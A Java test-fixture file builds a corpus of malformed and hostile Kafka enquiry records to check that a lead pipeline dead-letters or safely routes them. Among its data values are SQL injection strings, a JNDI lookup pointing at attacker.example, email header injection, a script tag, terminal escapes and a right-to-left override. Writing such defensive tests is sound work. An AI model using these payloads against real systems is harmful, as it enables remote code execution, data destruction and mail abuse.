package io.leadpipeline.reliability.corpus;

import io.leadpipeline.avro.Enquiry;
import io.leadpipeline.reliability.traffic.Enquiries;
import io.leadpipeline.reliability.traffic.Person;
import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Set;
import java.util.function.Consumer;
import java.util.function.Function;

/**
 * The bad-input corpus: records a website backend, a bug or an attacker could put on
 * {@code enquiries}, each with the dead-letter reasons that are acceptable for it. Wire-level
 * damage is made from a well-formed record's bytes; semantic damage from a well-formed enquiry
 * with one field made absurd, serialised for real.
 */
public final class BadEnquiries {

  /**
   * One bad record. {@code expectedReasons} are the {@code dlq.reason} values that would be right
   * for it (any one of them).
   */
  public record Case(String name, String key, byte[] value, Set<String> expectedReasons) {
    @Override
    public String toString() {
      return name;
    }
  }

  /** The far future of a date field: no office search plans a move in the year 9999. */
  public static final LocalDate FAR_FUTURE = LocalDate.of(9999, 12, 31);

  private BadEnquiries() {}

  /**
   * Every case. {@code serialize} writes an enquiry in the Confluent wire format with a registered
   * schema (the real serializer); {@code tag} makes keys unique to the run.
   */
  public static List<Case> all(String tag, Function<Enquiry, byte[]> serialize) {
    List<Case> cases = new ArrayList<>();
    cases.addAll(wireLevel(tag, serialize));
    cases.addAll(semantic(tag, serialize));
    return cases;
  }

  /** Damage to the bytes: framing, schema id, truncation, lengths that lie. */
  public static List<Case> wireLevel(String tag, Function<Enquiry, byte[]> serialize) {
    byte[] good = serialize.apply(valid(tag, 0).build());
    List<Case> cases = new ArrayList<>();
    byte[] wrongMagic = good.clone();
    wrongMagic[0] = 1;
    cases.add(new Case("wrong magic byte", key(tag, "wrong-magic"), wrongMagic, Set.of("WRONG_MAGIC_BYTE")));
    cases.add(new Case("JSON instead of Avro", key(tag, "json"),
        "{\"enquiryId\":\"x\"}".getBytes(StandardCharsets.UTF_8), Set.of("WRONG_MAGIC_BYTE", "UNDECODABLE")));
    byte[] unknownId = good.clone();
    ByteBuffer.wrap(unknownId, 1, 4).putInt(987_654_321);
    cases.add(new Case("unknown schema id", key(tag, "unknown-id"), unknownId, Set.of("UNKNOWN_SCHEMA")));
    cases.add(new Case("header only", key(tag, "header-only"), Arrays.copyOf(good, 5), Set.of("UNDECODABLE")));
    cases.add(new Case("shorter than a header", key(tag, "short"), new byte[] {0, 0, 1}, Set.of("UNDECODABLE")));
    cases.add(new Case("empty value", key(tag, "empty"), new byte[0], Set.of("UNDECODABLE")));
    cases.add(new Case("tombstone", key(tag, "tombstone"), null, Set.of("UNDECODABLE", "MISSING_FIELD")));
    cases.add(new Case("truncated body", key(tag, "truncated"), Arrays.copyOf(good, good.length / 2), Set.of("UNDECODABLE")));
    cases.add(new Case("bytes after the body", key(tag, "trailing"), concat(good, new byte[] {1, 2, 3, 4}), Set.of("UNDECODABLE")));
    // The first field (enquiryId) claims to be a gigabyte long: a decoder that believes lengths
    // allocates it before noticing the record is 20 bytes.
    cases.add(new Case("string length of a gigabyte", key(tag, "huge-length"),
        concat(Arrays.copyOf(good, 5), zigzagVarint(1L << 30), "abc".getBytes(StandardCharsets.UTF_8)),
        Set.of("UNDECODABLE")));
    cases.add(new Case("negative string length", key(tag, "negative-length"),
        concat(Arrays.copyOf(good, 5), zigzagVarint(-5), "abc".getBytes(StandardCharsets.UTF_8)),
        Set.of("UNDECODABLE")));
    return cases;
  }

  /** Schema-valid enquiries that no office search could be. */
  public static List<Case> semantic(String tag, Function<Enquiry, byte[]> serialize) {
    List<Case> cases = new ArrayList<>();
    int[] n = {100};
    cases.add(semantic(tag, serialize, n, "zero desks", b -> b.getRequirementsBuilder().setDesks(0), "INVALID_DESKS"));
    cases.add(semantic(tag, serialize, n, "negative desks", b -> b.getRequirementsBuilder().setDesks(-5), "INVALID_DESKS"));
    cases.add(semantic(tag, serialize, n, "two billion desks", b -> b.getRequirementsBuilder().setDesks(Integer.MAX_VALUE), "ABSURD_SIZE"));
    cases.add(semantic(tag, serialize, n, "budget of minus one pound", b -> b.getRequirementsBuilder().setMaxBudgetPerDeskGbp(-1), "ABSURD_SIZE"));
    cases.add(semantic(tag, serialize, n, "a thousand-year term", b -> b.getRequirementsBuilder().setTermMonths(12_000), "ABSURD_SIZE"));
    cases.add(semantic(tag, serialize, n, "enquiry id not a UUID", b -> b.setEnquiryId("'; DROP TABLE leads;--"), "INVALID_ENQUIRY_ID"));
    cases.add(semantic(tag, serialize, n, "empty name", b -> b.getContactBuilder().setFullName("   "), "MISSING_FIELD"));
    cases.add(semantic(tag, serialize, n, "email without at", b -> b.getContactBuilder().setEmail("not-an-email"), "INVALID_EMAIL"));
    cases.add(semantic(tag, serialize, n, "email with header injection",
        b -> b.getContactBuilder().setEmail("ada@example.com\r\nBcc: everyone@example.com"), "INVALID_EMAIL"));
    cases.add(semantic(tag, serialize, n, "email with markup", b -> b.getContactBuilder().setEmail("<script>@example.com"), "INVALID_EMAIL"));
    cases.add(semantic(tag, serialize, n, "phone that is SQL", b -> b.getContactBuilder().setPhone("'; DROP TABLE tps;--"), "INVALID_PHONE"));
    cases.add(semantic(tag, serialize, n, "phone that is a JNDI lookup",
        b -> b.getContactBuilder().setPhone("${jndi:ldap://attacker.example/a}"), "INVALID_PHONE"));
    cases.add(semantic(tag, serialize, n, "phone of 200 digits", b -> b.getContactBuilder().setPhone("0".repeat(200)), "INVALID_PHONE"));
    cases.add(semantic(tag, serialize, n, "name of 100 kB", b -> b.getContactBuilder().setFullName("A".repeat(100_000)), "ABSURD_SIZE"));
    return cases;
  }

  /**
   * Free text that a partner's CRM, terminal or browser would misread: control characters, a
   * terminal escape, a right-to-left override, NUL. docs/SPECIFICATION.md §6 rule 1 and the issue ask for
   * these to be dead-lettered; see the module README for what the router does today.
   */
  public static List<Case> controlCharacters(String tag, Function<Enquiry, byte[]> serialize) {
    List<Case> cases = new ArrayList<>();
    int[] n = {200};
    cases.add(semantic(tag, serialize, n, "NUL in the name", b -> b.getContactBuilder().setFullName("Ada\u0000Lovelace"), "INVALID_TEXT", "MISSING_FIELD"));
    cases.add(semantic(tag, serialize, n, "terminal escape in the company",
        b -> b.getContactBuilder().setCompany("\u001b[2J\u001b[31mACME"), "INVALID_TEXT"));
    cases.add(semantic(tag, serialize, n, "right-to-left override in the name",
        b -> b.getContactBuilder().setFullName("Ada \u202Egnp.exe"), "INVALID_TEXT"));
    cases.add(semantic(tag, serialize, n, "line break in the city",
        b -> b.getRequirementsBuilder().setCity("London\nX-Injected: yes"), "INVALID_TEXT"));
    return cases;
  }

  /** Dates no office search has: a move-in in the year 9999. */
  public static List<Case> farFuture(String tag, Function<Enquiry, byte[]> serialize) {
    int[] n = {300};
    return List.of(semantic(tag, serialize, n, "move-in in the year 9999",
        b -> b.getRequirementsBuilder().setMoveInDate(FAR_FUTURE), "INVALID_DATE", "ABSURD_SIZE"));
  }

  /** Unusual but real: these must be routed, not rejected. */
  public static List<Enquiry> legitimateOddities(String tag) {
    List<Enquiry> out = new ArrayList<>();
    out.add(valid(tag, 400).setContact(contact(valid(tag, 400), "Zoë Ñúñez-O'Brien 李小龍")).build());
    out.add(valid(tag, 401).setContact(contact(valid(tag, 401), "Robert'); DROP TABLE Students;--")).build());
    out.add(valid(tag, 402).setContact(contact(valid(tag, 402), "${jndi:ldap://attacker.example/a}")).build());
    return out;
  }

  private static io.leadpipeline.avro.Contact contact(Enquiry.Builder b, String name) {
    return io.leadpipeline.avro.Contact.newBuilder(b.getContact()).setFullName(name).build();
  }

  private static Case semantic(String tag, Function<Enquiry, byte[]> serialize, int[] n, String name,
      Consumer<Enquiry.Builder> damage, String... reasons) {
    Enquiry.Builder b = valid(tag, n[0]++);
    damage.accept(b);
    Enquiry e = b.build();
    return new Case(name, e.getEnquiryId(), serialize.apply(e), Set.of(reasons));
  }

  /** A valid enquiry of person {@code index} of this run. */
  public static Enquiry.Builder valid(String tag, int index) {
    Enquiry.Builder b = Enquiries.from(Person.of(tag, index));
    b.setSubmittedAt(Instant.now());
    return b;
  }

  private static String key(String tag, String name) {
    return tag + "-bad-" + name;
  }

  static byte[] zigzagVarint(long n) {
    long z = (n << 1) ^ (n >> 63);
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    while ((z & ~0x7FL) != 0) {
      out.write((int) ((z & 0x7F) | 0x80));
      z >>>= 7;
    }
    out.write((int) z);
    return out.toByteArray();
  }

  private static byte[] concat(byte[]... parts) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    for (byte[] p : parts) {
      out.writeBytes(p);
    }
    return out.toByteArray();
  }
}
